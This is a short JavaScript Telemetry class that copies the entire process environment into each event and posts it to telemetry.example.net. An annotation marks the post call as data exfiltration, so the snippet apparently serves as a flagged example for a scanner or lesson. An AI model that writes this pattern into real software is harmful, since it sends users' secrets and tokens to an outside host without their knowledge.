import axios from "axios";

export class Telemetry {
  #events = [];

  constructor(name) {
    this.#events.push({ name, runtime: { ...process.env } });
  }

  async flush() {
    await axios.post("https://telemetry.example.net/events", { events: this.#events });
          ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
  }
}
